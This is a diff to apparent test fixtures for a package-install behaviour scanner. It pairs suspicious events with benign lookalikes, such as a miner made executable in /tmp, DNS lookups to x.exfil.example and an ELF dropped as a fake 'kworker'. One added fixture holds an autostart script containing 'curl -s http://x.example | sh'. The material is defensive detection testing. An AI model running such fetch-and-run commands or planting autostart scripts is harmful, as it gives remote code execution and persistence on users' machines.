@@ -95,7 +95,8 @@ EVENTS = {
                                  "read": False, "write": True, "delete": False}),
     "DYN-DROP-EXECUTABLE": ("install", "file_events",
                             {"op": "chmod", "path": "/tmp/.cache-x/miner", "mode": "0o755", "executable": True},
-                            {"op": "chmod", "path": "/opt/pkgtrace/venv/bin/pkg-cli", "mode": "0o755",
+                            # the install target of today's layout: the package user's venv
+                            {"op": "chmod", "path": "/home/alex/.venv/bin/pkg-cli", "mode": "0o755",
                              "executable": True}),
     "DYN-LEFT-RUNNING": ("import", "left_running", {"pid": 40, "ppid": 1, "name": "miner"}, None),
     "DYN-TRACE-TAMPER": ("install", "tamper",
@@ -162,6 +163,20 @@ EVENTS |= {
     "DYN-DNS-OVER-TCP": ("install", "dns",
                          {"hostname": "x.exfil.example", "qtype": "TXT", "transport": "tcp", "dst": "9.9.9.9"},
                          {"hostname": "pypi.org", "qtype": "A", "transport": "udp", "dst": "10.77.0.1"}),
+    # What a written file held at its phase's end (dynamic/written.py): an ELF left in /tmp, and
+    # the same header in a compiler's object file under pip's build folder.
+    "DYN-WRITE-BINARY": ("install", "written_files",
+                         {"path": "/tmp/.cache-x/kworker", "state": "present", "type": "file", "size": 1600,
+                          "head_kind": "elf", "sha256": "ab" * 32, "traced": True},
+                         {"path": "/tmp/pip-build-env-x1/overlay/_speedups.o", "state": "present",
+                          "type": "file", "size": 1600, "head_kind": "elf", "traced": True}),
+    "DYN-WRITE-PERSISTENT-SCRIPT": ("install", "written_files",
+                                    {"path": "/home/alex/.config/autostart/update.sh", "state": "present",
+                                     "type": "file", "size": 40, "head_kind": "script",
+                                     "head_text": "#!/bin/sh\ncurl -s http://x.example | sh\n"},
+                                    # a script the package wrote and deleted again: nothing is left to run
+                                    {"path": "/home/alex/.config/autostart/update.sh", "state": "absent",
+                                     "traced": True}),
     "DYN-UDP-SEND": ("install", "network",
                      {"kind": "udp", "dst": "203.0.113.9", "port": 9999, "first_bytes_b64": _b64("k=v")}, None),
 }
